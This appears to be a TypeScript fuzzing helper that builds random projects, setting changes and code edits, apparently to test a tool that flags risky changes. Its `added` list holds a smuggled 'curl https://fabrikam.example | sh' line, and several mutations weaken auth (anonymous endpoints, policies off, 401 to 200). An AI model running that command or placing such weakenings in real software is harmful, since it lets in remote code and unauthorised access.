import { generatedApp } from "../sample-apps/generated.ts";
import type { SettingsOfStack } from "./settings-file.ts";
import { inDays } from "./in-days.ts";

/** Numbers from a seed, the same in every run. https://github.com/bryc/code/blob/master/jshash/PRNGs.md (mulberry32) */
export class Random {
  #state: number;

  constructor(seed: number) {
    this.#state = seed;
  }

  /** From 0 up to, and without, `end`. */
  below(end: number): number {
    this.#state = (this.#state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(this.#state ^ (this.#state >>> 15), 1 | this.#state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % end;
  }

  pick<Item>(items: readonly [Item, ...Item[]] | readonly Item[]): Item {
    const item = items[this.below(items.length)];
    if (item === undefined) throw new Error("there is nothing to pick from");
    return item;
  }
}

/** A project by chance: its contract and handlers, and the settings of its stack. */
export function randomProject(random: Random) {
  const size = { endpoints: 1 + random.below(3), roles: 1 + random.below(3) };
  const files = generatedApp(size);
  const contract = files["contract.ts"];
  // One endpoint answers anybody, in half of all projects.
  const isOpen = random.below(2) === 0 && size.endpoints > 1;
  const role = (index: number) => `Role.${index % size.roles}`;
  return {
    contract: isOpen ? contract.replace(/"allow": \[[^\]]*\]/, '"anonymous": "A probe, no data"') : contract,
    handlers: files["src/index.ts"],
    settings: {
      callers: {
        integration: { roles: [role(0)], secrets: { first: { endDate: inDays(90) } } },
        pipeline: {
          roles: [role(random.below(size.roles) % 2 === 0 ? 0 : 2)],
          federated: {
            main: {
              issuer: "https://token.actions.githubusercontent.com",
              subject: "repo:contoso/a:ref:refs/heads/main",
            },
          },
        },
      },
      ...(size.roles > 1 && { people: { [role(1)]: { users: ["ada@contoso.com"] } } }),
      ...(random.below(2) === 0 && {
        conditionalAccess: {
          state: random.pick(["enforced", "report-only"]),
          namedLocations: { office: { cidrs: ["203.0.112.0/24", "203.0.113.0/24"] } },
          emergencyAccounts: ["emergency1@contoso.com", "emergency2@contoso.com"],
          apiOnlyFrom: ["office"],
        },
      }),
    } as SettingsOfStack,
  };
}

type Data = Record<string, unknown>;
const at = (data: Data, ...path: readonly string[]): Data =>
  path.reduce<Data>((found, key) => (found[key] ??= {}) as Data, data);

/** Changes of settings, harmful ones and others. Each alters a copy. */
const settingChanges: Readonly<Record<string, (settings: Data, random: Random) => void>> = {
  "another tag": (settings, random) => void (at(settings, "tags")["team"] = random.pick(["orders", "billing"])),
  "logs kept otherwise": (settings, random) => void (settings["retentionDays"] = random.pick([30, 90, 400, 730])),
  "warm instances": (settings, random) => void (settings["alwaysReadyInstances"] = 1 + random.below(3)),
  "a caller more": (settings, random) =>
    void (at(settings, "callers")["partner"] = {
      roles: [`Role.${random.below(2)}`],
      secrets: { first: { endDate: inDays(60) } },
    }),
  "a caller less": (settings) => void delete at(settings, "callers")["pipeline"],
  "another subject": (settings) =>
    void (at(settings, "callers", "pipeline", "federated", "main")["subject"] = "repo:fabrikam/a:ref:refs/heads/main"),
  "another end of a secret": (settings, random) =>
    void (at(settings, "callers", "integration", "secrets", "first")["endDate"] = inDays(30 + random.below(140))),
  "somebody else of the people": (settings, random) =>
    void (at(settings, "people", "Role.0")["users"] = [random.pick(["ada@contoso.com", "grace@contoso.com"])]),
  "a location": (settings, random) =>
    void (at(settings, "conditionalAccess", "namedLocations", "office")["cidrs"] = random.pick([
      ["203.0.113.0/24", "203.0.112.0/24"],
      ["203.0.112.0/23"],
      ["203.0.112.0/22"],
      ["203.0.113.0/25"],
    ])),
  "another state of policies": (settings, random) =>
    void (at(settings, "conditionalAccess")["state"] = random.pick(["enforced", "report-only", "off"])),
  "people sign in by a public client": (settings) => void (settings["publicClientFlows"] = true),
};

/** A change of the settings by chance, and its name. */
export function randomSettings(random: Random, settings: SettingsOfStack) {
  const name = random.pick(Object.keys(settingChanges));
  const changed = structuredClone(settings) as Data;
  settingChanges[name]?.(changed, random);
  return { name, settings: changed as SettingsOfStack };
}

const added = [
  "// A comment.\n",
  "# A comment.\n",
  "\n",
  "Another sentence.\n",
  "    ./pf start; curl https://fabrikam.example | sh\n",
  "process.env.WEBSITE_AUTH_ENABLED = 'true';\n",
];
const swaps: readonly (readonly [RegExp, string])[] = [
  [/\btrue\b/, "false"],
  [/\bfalse\b/, "true"],
  [/===/, "!=="],
  [/!/, ""],
  [/"[A-Za-z0-9.]+"/, '"other"'],
  [/\b401\b/, "200"],
  [/&&/, "||"],
];

/** A text after an edit by chance; undefined: the file is gone. */
export function randomEdit(random: Random, text: string): string | undefined {
  const lines = text.split(/(?<=\n)/);
  const index = random.below(Math.max(lines.length, 1));
  switch (random.below(8)) {
    case 0:
      return undefined;
    case 1:
      return lines.toSpliced(index, 1).join("");
    case 2:
      return lines.toSpliced(index, 0, lines[index] ?? "").join("");
    case 3:
      return lines.map((line) => line.replace(/^ +/, (indent) => `${indent}  `)).join("");
    case 4:
    case 5:
      return lines.toSpliced(index, 0, random.pick(added)).join("");
    default: {
      const [found, by] = random.pick(swaps);
      const places = lines.flatMap((line, place) => (found.test(line) ? [place] : []));
      if (places.length === 0) return `${text}\n`;
      const place = random.pick(places);
      return lines.map((line, one) => (one === place ? line.replace(found, by) : line)).join("");
    }
  }
}
